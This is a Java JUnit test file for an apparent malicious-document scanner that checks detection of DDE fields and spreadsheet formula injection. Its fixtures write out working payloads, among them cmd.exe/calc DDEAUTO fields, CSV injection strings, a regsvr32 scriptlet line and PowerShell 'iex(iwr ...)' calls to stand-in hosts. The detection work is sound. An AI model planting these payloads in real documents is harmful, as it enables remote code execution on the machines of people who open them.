package dev.prefilter.engine.office.dde;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.prefilter.engine.model.Finding;
import dev.prefilter.engine.model.Severity;
import dev.prefilter.engine.model.Verdict;
import dev.prefilter.engine.office.OfficeFixtures;
import dev.prefilter.engine.office.ReportChecks;
import dev.prefilter.engine.report.Report;
import dev.prefilter.engine.testing.TestEngines;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.junit.jupiter.api.Test;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STFldCharType;

class DdeAnalyzerTest {

    @Test
    void aDdeautoFieldSplitAcrossRunsIsFound() throws IOException {
        byte[] docx = docx(p -> {
            fldChar(p, STFldCharType.BEGIN);
            instr(p, " DDE");
            instr(p, "AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" ");
            fldChar(p, STFldCharType.SEPARATE);
            p.createRun().setText("!Unexpected End of Formula");
            fldChar(p, STFldCharType.END);
        });

        Report report = TestEngines.scanFile("invoice.docx", docx);

        Finding f = ReportChecks.only(report, "dde.field");
        assertEquals(Severity.HIGH, f.severity());
        assertEquals("DDEAUTO", f.evidence().get("keyword"));
        assertTrue(((String) f.evidence().get("instruction")).contains("cmd.exe"));
        assertEquals("word/document.xml", f.evidence().get("where"));
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
    }

    @Test
    void aSimpleDdeFieldIsFound() throws IOException {
        byte[] docx = docx(p ->
                p.getCTP().addNewFldSimple().setInstr(" DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "));

        assertEquals(
                "DDE",
                ReportChecks.only(TestEngines.scanFile("s.docx", docx), "dde.field")
                        .evidence()
                        .get("keyword"));
    }

    @Test
    void aDdeKeywordHiddenInQuoteFieldCharacterCodesIsFound() throws IOException {
        // { {QUOTE 68 68 69 65 85 84 79} c:\windows\system32\cmd.exe "/c calc" }: the QUOTE field spells DDEAUTO
        byte[] docx = docx(p -> {
            fldChar(p, STFldCharType.BEGIN);
            fldChar(p, STFldCharType.BEGIN);
            instr(p, "QUOTE 68 68 69 65 85 84 79");
            fldChar(p, STFldCharType.SEPARATE);
            p.createRun().setText("stale");
            fldChar(p, STFldCharType.END);
            instr(p, " c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\"");
            fldChar(p, STFldCharType.END);
        });

        Finding f = ReportChecks.only(TestEngines.scanFile("q.docx", docx), "dde.field");
        assertEquals("DDEAUTO", f.evidence().get("keyword"));
    }

    @Test
    void ordinaryFieldsAreNotDde() throws IOException {
        byte[] docx = docx(p -> {
            p.getCTP().addNewFldSimple().setInstr(" PAGE ");
            p.getCTP().addNewFldSimple().setInstr(" HYPERLINK \"https://example.com/dde\" ");
            fldChar(p, STFldCharType.BEGIN);
            instr(p, " MACROBUTTON  Cancel DDE-free text ");
            fldChar(p, STFldCharType.END);
        });

        Report report = TestEngines.scanFile("fields.docx", docx);

        assertEquals(List.of(), ReportChecks.oursAboveInfo(report));
        assertEquals(Verdict.CLEAN, report.verdict());
    }

    @Test
    void aSmartArtDiagramsTextBodyIsNotWordText() throws IOException {
        byte[] docx = docx(p -> p.getCTP().addNewFldSimple().setInstr(" PAGE "));
        String diagram = """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <dgm:dataModel xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram"
                 xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><dgm:ptLst><dgm:pt modelId="{1}">
                <dgm:t><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-GB"/><a:t>Phase 1</a:t></a:r></a:p></dgm:t>
                </dgm:pt></dgm:ptLst></dgm:dataModel>""";
        Map<String, byte[]> parts = new java.util.LinkedHashMap<>();
        try (java.util.zip.ZipInputStream in =
                new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(docx))) {
            for (java.util.zip.ZipEntry e; (e = in.getNextEntry()) != null; ) parts.put(e.getName(), in.readAllBytes());
        }
        parts.put("word/diagrams/data1.xml", diagram.getBytes(StandardCharsets.UTF_8));

        Report report = TestEngines.scanFile("plan.docx", OfficeFixtures.zip(parts));

        assertEquals(List.of(), ReportChecks.oursAboveInfo(report));
        assertEquals(Verdict.CLEAN, report.verdict());
    }

    @Test
    void binaryWordFieldsAreReadFromTheTextStream() {
        String text = "Hello \u0013DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k "
                + "calc.exe\"\u0014!Error\u0015 and \u0013 PAGE \u00141\u0015";

        List<String> instructions = DocFieldReader.fromText(text);

        assertEquals(List.of("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"", " PAGE "), instructions);
        assertEquals("DDEAUTO", FieldInstructions.ddeKeyword(instructions.get(0)));
    }

    @Test
    void csvFormulaInjectionWithEveryPrefixIsFound() {
        for (String line : List.of(
                "=cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "name,\"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s "
                        + "/n /u /i:http://x.test/a.sct scrobj.dll'!''\"",
                "a;b;=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")")) {
            Report report = TestEngines.scanFile("export.csv", (line + "\r\n").getBytes(StandardCharsets.UTF_8));
            assertEquals(Severity.HIGH, ReportChecks.only(report, "dde.formula").severity(), line);
            assertEquals(Verdict.SUSPICIOUS, report.verdict(), line);
        }
    }

    @Test
    void csvWithOrdinaryFormulasAndPipesStaysClean() {
        String csv = "id,total,note\r\n1,=SUM(B1:B3),a|b!c is text not a formula\r\n2,-5,\"x|'y'!z\"\r\n";

        Report report = TestEngines.scanFile("report.csv", csv.getBytes(StandardCharsets.UTF_8));

        assertEquals(List.of(), ReportChecks.oursAboveInfo(report));
        assertEquals(Verdict.CLEAN, report.verdict());
    }

    @Test
    void aSylkExpressionWithDdeIsFound() {
        String slk = "ID;P\r\nC;Y1;X1;K0;ECMD|' /C calc'!A0\r\nE\r\n";

        Report report = TestEngines.scanFile("data.slk", slk.getBytes(StandardCharsets.US_ASCII));

        assertEquals("CMD", ReportChecks.only(report, "dde.formula").evidence().get("service"));
    }

    @Test
    void anXlsxDdeLinkAndAnInlineDdeFormulaAreFound() {
        byte[] xlsx = OfficeFixtures.xlsx(
                "<row r=\"1\"><c r=\"A1\"><f>cmd|' /c powershell -w hidden -c "
                        + "iex(x)'!A0</f></c><c r=\"B1\"><f>[1]!_xlbgnm.A1</f></c></row>",
                Map.of("xl/externalLinks/externalLink1.xml", """
                        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                        <externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
                        <ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_xlbgnm.A1" \
                        advise="1"/></ddeItems></ddeLink>
                        </externalLink>"""),
                OfficeFixtures.workbookRels("<Relationship Id=\"rId2\" "
                        + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" "
                        + "Target=\"externalLinks/externalLink1.xml\"/>"));

        Report report = TestEngines.scanFile("book.xlsx", xlsx);

        Finding link = ReportChecks.only(report, "dde.link");
        assertEquals("cmd", link.evidence().get("service"));
        assertEquals("/c calc.exe", link.evidence().get("topic"));
        Finding formula = ReportChecks.only(report, "dde.formula");
        assertEquals("xl/worksheets/sheet1.xml!A1", formula.evidence().get("where"));
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
    }

    @Test
    void anXlsxWithOrdinaryFormulasIsClean() {
        byte[] xlsx = OfficeFixtures.xlsx(
                "<row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)</f></c><c r=\"A2\"><f>[1]Sheet1!$A$1</f></c></row>",
                Map.of(),
                OfficeFixtures.workbookRels());

        Report report = TestEngines.scanFile("book.xlsx", xlsx);

        assertEquals(List.of(), ReportChecks.oursAboveInfo(report));
        assertEquals(Verdict.CLEAN, report.verdict());
    }

    @Test
    void excel2003XmlDdeIsFound() {
        String xml = """
                <?xml version="1.0"?>
                <?mso-application progid="Excel.Sheet"?>
                <Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" \
                xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
                 <ExcelWorkbook xmlns="urn:schemas-microsoft-com:office:excel"><SupBook><Path>cmd|/c \
                calc.exe</Path></SupBook></ExcelWorkbook>
                 <Worksheet ss:Name="S"><Table><Row><Cell ss:Formula="=cmd|'/c calc.exe'!A1"><Data \
                ss:Type="Error">#REF!</Data></Cell></Row></Table></Worksheet>
                </Workbook>""";

        Report report = TestEngines.scanFile("sheet.xml", xml.getBytes(StandardCharsets.UTF_8));

        assertEquals("application/vnd.ms-spreadsheetml", report.root().detectedType());
        assertEquals("cmd", ReportChecks.only(report, "dde.link").evidence().get("service"));
        assertEquals(Severity.HIGH, ReportChecks.only(report, "dde.formula").severity());
    }

    @Test
    void anXlsDdeLinkInASupbookRecordIsFound() {
        byte[] xls = OfficeFixtures.ole2(root -> root.createDocument(
                "Workbook",
                new java.io.ByteArrayInputStream(biff(
                        record(0x0809, new byte[16]),
                        record(0x01AE, supbook("cmd\u0003/c powershell -nop -w hidden -c iex(iwr http://192.0.2.4/a)")),
                        record(0x01AE, new byte[] {1, 0, 1, 4}),
                        record(0x000A, new byte[0])))));

        Report report = TestEngines.scanFile("book.xls", xls);

        Finding link = ReportChecks.only(report, "dde.link");
        assertEquals("cmd", link.evidence().get("service"));
        assertTrue(((String) link.evidence().get("topic")).startsWith("/c powershell"));
    }

    @Test
    void anXlsWithAnOrdinaryExternalWorkbookHasNoDde() {
        byte[] xls = OfficeFixtures.ole2(root -> root.createDocument(
                "Workbook",
                new java.io.ByteArrayInputStream(biff(
                        record(0x0809, new byte[16]),
                        record(0x01AE, supbook("\u0001\u0001C\u0003budget.xls")),
                        record(0x000A, new byte[0])))));

        assertTrue(ReportChecks.withCode(TestEngines.scanFile("book.xls", xls), "dde.link")
                .isEmpty());
    }

    private static byte[] supbook(String path) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(1);
        out.write(0);
        out.write(path.length() & 0xff);
        out.write(path.length() >> 8);
        out.write(0);
        out.writeBytes(path.getBytes(StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }

    private static byte[] record(int sid, byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(sid & 0xff);
        out.write(sid >> 8);
        out.write(body.length & 0xff);
        out.write(body.length >> 8);
        out.writeBytes(body);
        return out.toByteArray();
    }

    private static byte[] biff(byte[]... records) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] r : records) out.writeBytes(r);
        return out.toByteArray();
    }

    @Test
    void wordXmlFormatsAreReadToo() {
        String word2003 = """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <?mso-application progid="Word.Document"?>
                <w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p>
                <w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r>
                <w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:wordDocument>""";
        String flatOpc = """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <?mso-application progid="Word.Document"?>
                <pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">
                <pkg:part pkg:name="/word/_rels/settings.xml.rels" \
                pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship \
                Id="rId1"
                 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" \
                Target="http://192.0.2.9/t.dotm" TargetMode="External"/></Relationships>
                </pkg:xmlData></pkg:part>
                <pkg:part pkg:name="/word/document.xml" \
                pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml">\
                <pkg:xmlData>
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>
                <w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "/></w:p></w:body></w:document>
                </pkg:xmlData></pkg:part></pkg:package>""";

        Report w2003 = TestEngines.scanFile("memo.xml", word2003.getBytes(StandardCharsets.UTF_8));
        Report flat = TestEngines.scanFile("memo2.xml", flatOpc.getBytes(StandardCharsets.UTF_8));

        assertEquals("application/vnd.ms-wordml", w2003.root().detectedType());
        assertEquals("DDEAUTO", ReportChecks.only(w2003, "dde.field").evidence().get("keyword"));
        assertEquals("application/vnd.ms-word2006ml", flat.root().detectedType());
        assertEquals("DDE", ReportChecks.only(flat, "dde.field").evidence().get("keyword"));
        assertEquals(
                "http://192.0.2.9/t.dotm",
                ReportChecks.only(flat, "ooxml.external-template").evidence().get("url"));
    }

    interface ParagraphEdit {
        void apply(XWPFParagraph p);
    }

    static byte[] docx(ParagraphEdit edit) throws IOException {
        try (XWPFDocument doc = new XWPFDocument()) {
            doc.createParagraph().createRun().setText("Please update the fields.");
            edit.apply(doc.createParagraph());
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.write(out);
            return out.toByteArray();
        }
    }

    private static void fldChar(XWPFParagraph p, STFldCharType.Enum type) {
        p.createRun().getCTR().addNewFldChar().setFldCharType(type);
    }

    private static void instr(XWPFParagraph p, String text) {
        p.createRun().getCTR().addNewInstrText().setStringValue(text);
    }
}
